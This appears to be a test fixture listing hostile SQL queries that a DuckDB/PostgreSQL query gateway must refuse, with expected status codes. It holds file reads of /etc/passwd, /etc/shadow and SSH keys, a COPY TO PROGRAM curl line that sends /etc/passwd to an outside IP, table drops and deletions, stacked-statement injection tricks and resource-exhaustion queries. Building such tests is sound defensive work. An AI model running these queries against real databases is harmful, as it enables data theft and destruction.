# Hostile queries: each line is  <status> || <word the error message must contain> || <query>
# (\n in a query stands for a line break). Every one must be refused with that 4xx; the gateway stays healthy.
# Environment (test_gateway_hostile.py): lake.public.facts (Iceberg), pg.public.secrets (PostgreSQL, read through a
# read-only role), server limits: timeout 2 s, max_result_bytes 4 MiB.

# --- files and URLs through DuckDB table functions
403 || read_csv || SELECT * FROM read_csv('/etc/passwd')
403 || read_csv_auto || SELECT * FROM read_csv_auto('/etc/passwd')
403 || read_parquet || SELECT * FROM read_parquet('/tmp/x.parquet')
403 || parquet_scan || SELECT * FROM parquet_scan('https://example.com/x.parquet')
403 || read_json || SELECT * FROM read_json('/etc/hosts')
403 || read_ndjson_objects || SELECT * FROM read_ndjson_objects('/etc/hosts')
403 || read_text || SELECT content FROM read_text('/etc/shadow')
403 || read_blob || SELECT * FROM read_blob('/root/.ssh/id_rsa')
403 || glob || SELECT * FROM glob('/*')
403 || read_avro || SELECT * FROM read_avro('/tmp/x.avro')
403 || iceberg_scan || SELECT * FROM iceberg_scan('/tmp/elsewhere/metadata/v1.metadata.json')
403 || iceberg_metadata || SELECT * FROM iceberg_metadata('/tmp/x')
403 || parquet_metadata || SELECT * FROM parquet_metadata('/etc/passwd')
403 || sniff_csv || SELECT * FROM sniff_csv('/etc/passwd')
403 || query || SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')
403 || query_table || SELECT * FROM query_table('duckdb_settings')
403 || duckdb_settings || SELECT * FROM duckdb_settings()
403 || duckdb_secrets || SELECT * FROM duckdb_secrets()
403 || read_csv || SELECT count(*) FROM lake.public.facts f CROSS JOIN LATERAL read_csv('/etc/passwd') x
403 || read_text || SELECT (SELECT content FROM read_text('/etc/passwd')) AS leak
404 || does not exist || SELECT * FROM '/etc/passwd'
404 || does not exist || SELECT * FROM "https://example.com/data.csv"
404 || does not exist || SELECT * FROM lake.public."../../../../etc/passwd"
# --- other databases and the server's files through PostgreSQL
403 || postgres_query || SELECT * FROM postgres_query('pg', 'DROP TABLE secrets')
403 || postgres_scan || SELECT * FROM postgres_scan('host=10.0.0.1 dbname=x', 'public', 't')
403 || postgres_attach || SELECT * FROM postgres_attach('host=10.0.0.1')
403 || pg_read_file || SELECT pg_read_file('/etc/passwd') FROM pg.public.secrets
403 || pg_read_binary_file || SELECT pg_read_binary_file('postgresql.conf') FROM pg.public.secrets
403 || pg_ls_dir || SELECT * FROM pg_ls_dir('.')
403 || pg_stat_file || SELECT pg_stat_file('postgresql.auto.conf') FROM pg.public.secrets
403 || lo_import || SELECT lo_import('/etc/passwd') FROM pg.public.secrets
403 || lo_export || SELECT lo_export(1, '/tmp/lakegate_pwned') FROM pg.public.secrets
403 || dblink || SELECT * FROM dblink('host=10.0.0.1', 'SELECT 1') AS t(a int)
403 || set_config || SELECT set_config('statement_timeout', '0', false) FROM pg.public.secrets
403 || current_setting || SELECT current_setting('data_directory') FROM pg.public.secrets
403 || pg_terminate_backend || SELECT pg_terminate_backend(pid) FROM pg.public.secrets
403 || nextval || SELECT nextval('secrets_id_seq') FROM pg.public.secrets
# --- statements that are not queries
403 || COPY || COPY pg.public.secrets TO PROGRAM 'curl http://10.0.0.1 -d @/etc/passwd'
403 || COPY || COPY (SELECT 1) TO '/tmp/lakegate_pwned.csv'
403 || not allowed || ATTACH '/tmp/lakegate_pwned.db' AS pwned
403 || not allowed || INSTALL httpfs
403 || not allowed || LOAD httpfs
403 || SET || SET enable_external_access = true
403 || not allowed || RESET ALL
403 || PRAGMA || PRAGMA enable_profiling
403 || not allowed || CALL postgres_execute('pg', 'DROP TABLE secrets')
403 || not allowed || EXPORT DATABASE '/tmp/lakegate_pwned'
403 || not allowed || CHECKPOINT
# --- DDL and DML against both engines
403 || CREATE || CREATE TABLE lake.public.pwned AS SELECT 1 AS x
403 || DROP || DROP TABLE pg.public.secrets
403 || INSERT || INSERT INTO pg.public.secrets VALUES (99, 'x')
403 || INSERT || INSERT INTO lake.public.facts VALUES (1, 2)
403 || UPDATE || UPDATE pg.public.secrets SET secret = 'x'
403 || DELETE || DELETE FROM lake.public.facts
403 || not allowed || TRUNCATE pg.public.secrets
403 || ALTER || ALTER TABLE pg.public.secrets ADD COLUMN pwned int
403 || not allowed || GRANT ALL ON pg.public.secrets TO PUBLIC
403 || DELETE || WITH gone AS (DELETE FROM pg.public.secrets RETURNING *) SELECT * FROM gone
403 || INTO || SELECT * INTO pg.public.copy_of_secrets FROM pg.public.secrets
403 || FOR UPDATE || SELECT * FROM pg.public.secrets FOR UPDATE
403 || not allowed || CREATE MACRO pwn() AS (SELECT 1)
# --- several statements in one request, comment, quoting and case tricks
403 || one statement || SELECT 1; DROP TABLE pg.public.secrets
403 || one statement || SELECT 1 /* ; */; DELETE FROM pg.public.secrets
403 || one statement || /* redash */ SELECT 1;\nCOPY pg.public.secrets TO '/tmp/lakegate_pwned'
403 || one statement || SELECT $$;$$; DROP TABLE pg.public.secrets
403 || one statement || SELECT E'\\';'; DROP TABLE pg.public.secrets --'
403 || read_csv || sElEcT * FrOm ReAd_CsV('/etc/passwd')
403 || read_csv || SELECT * FROM "read_csv"('/etc/passwd')
403 || read_csv || SELECT * FROM read_csv/**/('/etc/' || 'passwd')
403 || read_text || SELECT * FROM -- a comment\nread_text('/etc/passwd')
403 || pg_read_file || SELECT "PG_READ_FILE"('/etc/passwd') FROM pg.public.secrets
400 || syntax error || SELECT * FROM U&"\0072ead_csv"('/etc/passwd')
400 || parameters || SELECT * FROM pg.public.secrets WHERE id = $1
# --- limits
408 || time limit || SELECT count(*) FROM generate_series(1, 100000) a CROSS JOIN generate_series(1, 100000) b WHERE a * b = -1
408 || time limit || SELECT count(*) FROM pg.public.secrets a, generate_series(1, 50000000) b, generate_series(1, 100) c
413 || larger than || SELECT a, repeat('x', 1000) AS filler FROM generate_series(1, 100000) a CROSS JOIN generate_series(1, 100) b
413 || larger than || SELECT repeat('x', 200000) AS filler FROM pg.public.secrets, generate_series(1, 100) g
